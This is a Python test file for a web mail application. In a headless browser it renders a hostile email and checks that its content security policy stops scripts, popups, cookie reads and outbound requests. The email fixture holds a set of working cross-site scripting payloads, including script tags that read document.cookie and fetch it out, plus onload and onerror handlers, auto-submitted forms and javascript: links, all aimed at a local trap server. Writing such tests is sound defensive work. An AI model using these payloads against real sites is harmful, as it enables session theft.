"""Strangers' mail in a real browser: nothing of it runs, asks, or reaches the site's cookies."""

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.fakes.web_server import CREATED, WebServer, always
from tests.live.delivery import name_server
from tests.live.servers import AgentServer, running
from xhmtp_wsgi.protocol.endpoint import Endpoint
from xhmtp_wsgi.protocol.message_url import MessageURL
from xhmtp_wsgi.recipient import inbox
from xhmtp_wsgi.sender.injection import submit
from xhmtp_wsgi.sender.message_page import POLICY

pytestmark = [pytest.mark.live, pytest.mark.xdist_group("browser")]

OPTIONS = [
    "--no-sandbox",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-extensions",
    "--disable-gpu",
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
]

HOSTILE = """\
From: alice@a.example\r
To: bob@a.example\r
Subject: </title><script>document.title=document.cookie</script>hello\r
MIME-Version: 1.0\r
Content-Type: multipart/mixed; boundary="edge"\r
\r
--edge\r
Content-Type: text/html; charset=utf-8\r
\r
<html><head><meta http-equiv="refresh" content="0;url=TRAP/refresh"><base href="TRAP/">
<style>@import url(TRAP/css); body {{ background: url(TRAP/background) }}</style></head>
<body onload="fetch('TRAP/onload')"><p>These words are to be seen.</p>
<script>fetch('TRAP/script?' + document.cookie); document.title = document.cookie;
open('TRAP/popup'); alert(1)</script>
<img src="TRAP/picture" onerror="fetch('TRAP/onerror')">
<svg onload="fetch('TRAP/svg')"><script>fetch('TRAP/svgscript')</script></svg>
<iframe src="TRAP/frame"></iframe><object data="TRAP/object"></object><embed src="TRAP/embed">
<form id=f action="TRAP/form" method=post><input name=x></form><script>f.submit()</script>
<link rel=stylesheet href="TRAP/sheet"><video src="TRAP/video" autoplay></video>
<a href="javascript:fetch('TRAP/link')">a link</a> <a href="TRAP/ping" ping="TRAP/ping">b</a>
</body></html>\r
--edge\r
Content-Type: image/svg+xml\r
Content-Disposition: inline; filename="x.svg"\r
\r
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('TRAP/attached')"/>\r
--edge--\r
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    program = shutil.which("chromium")
    if program is None:
        pytest.skip("Debian's chromium is not installed (.ci/run installs it)")
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as driver:
        try:
            opened = driver.chromium.launch(executable_path=program, args=OPTIONS)
        except playwright.Error as error:
            pytest.skip(f"Chromium does not start here: {str(error).splitlines()[0]}")
        yield opened
        opened.close()


def test_hostile_mail_in_chromium_reaches_nothing(browser: Any, tmp_path: Path):
    log = tmp_path / "site.log"
    with name_server() as dns, WebServer(always(CREATED)) as trap:
        a = AgentServer(
            "a.example", "127.0.0.1", tmp_path / "a", dns.port,
            application="tests.live.cookie_site:application",
            environment={"COOKIE_SITE_LOG": str(log)},
        )  # fmt: skip
        dns.set_zone(a.records())
        agent = a.agent()
        for name in ("alice", "bob"):
            agent.accounts.add(Endpoint.parse(f"{name}@a.example"), None)
        message = HOSTILE.replace("TRAP", f"http://127.0.0.1:{trap.port}").replace("{{", "{")
        submit(agent, [message.replace("}}", "}").encode()], "alice@a.example", None)
        with running(a):
            a.must("xhmtp-notify")
            bob = Endpoint.parse("bob@a.example")
            (notice,) = inbox.page(agent.database, bob, newest=1, limit=1)
            url = MessageURL.parse(notice.url)
            asked_before = len(log.read_text().splitlines()) if log.exists() else 0
            context = browser.new_context(
                http_credentials={"username": "bob@a.example", "password": url.code}
            )
            page = context.new_page()
            surprises: list[str] = []
            page.on("dialog", lambda dialog: surprises.append("a dialog"))
            page.on("popup", lambda popup: surprises.append("a popup"))
            page.on("download", lambda download: surprises.append("a download"))
            requests: list[str] = []
            page.goto(a.url)
            assert "session=secret-of-the-site" in page.evaluate("document.cookie")
            page.on("request", lambda request: requests.append(request.url))
            answer = page.goto(a.url + url.path)
            assert answer.status == 200
            page.wait_for_timeout(1000)
            assert "These words are to be seen." in page.inner_text("body")
            assert "document.title" in page.title(), "its markup is text"
            assert "secret-of-the-site" not in page.title()
            _screenshots(page, tmp_path)
            assert surprises == []
            assert [urlsplit(one).path for one in requests] == [url.path]
            page.goto(a.url + url.path + "?source=1")
            assert "<script>" in page.inner_text("body"), "as text"
            page.wait_for_timeout(500)
            assert surprises == []
            context.close()
            asked = log.read_text().splitlines()[asked_before:]
        agent.database.close()
        assert trap.connections == [], "nobody came to the trap"
    assert asked.count("/") == 1, "the site was asked for what the test asked for"
    assert set(asked) <= {"/", "/favicon.ico"}


@pytest.mark.parametrize("guarded", [True, False])
def test_the_policy_alone_holds_and_without_it_the_trap_catches(browser: Any, guarded: bool):
    """The second line of defence; and the control, that the trap can be reached at all."""
    with WebServer(always(CREATED)) as trap:
        html = HOSTILE.partition("charset=utf-8\r\n\r\n")[2].partition("--edge")[0]
        html = html.replace("TRAP", f"http://127.0.0.1:{trap.port}")
        body = html.replace("{{", "{").replace("}}", "}").encode()
        fields = [b"HTTP/1.1 200 OK", b"Content-Type: text/html", b"Content-Length: %d" % len(body)]
        if guarded:
            fields.append(b"Content-Security-Policy: " + POLICY.encode())
        answer = b"\r\n".join(fields) + b"\r\n\r\n" + body
        with WebServer(always(answer)) as server:
            context = browser.new_context()
            page = context.new_page()
            page.on("dialog", lambda dialog: dialog.dismiss())
            page.goto(f"http://127.0.0.1:{server.port}/", wait_until="commit")
            page.wait_for_timeout(1500)
            context.close()
        assert bool(trap.requests) is not guarded


def _screenshots(page: Any, directory: Path) -> None:
    """For people to look at: light, dark, and as wide as a telephone."""
    page.screenshot(path=directory / "light.png")
    page.emulate_media(color_scheme="dark")
    page.screenshot(path=directory / "dark.png")
    page.set_viewport_size({"width": 360, "height": 640})
    page.screenshot(path=directory / "phone.png")
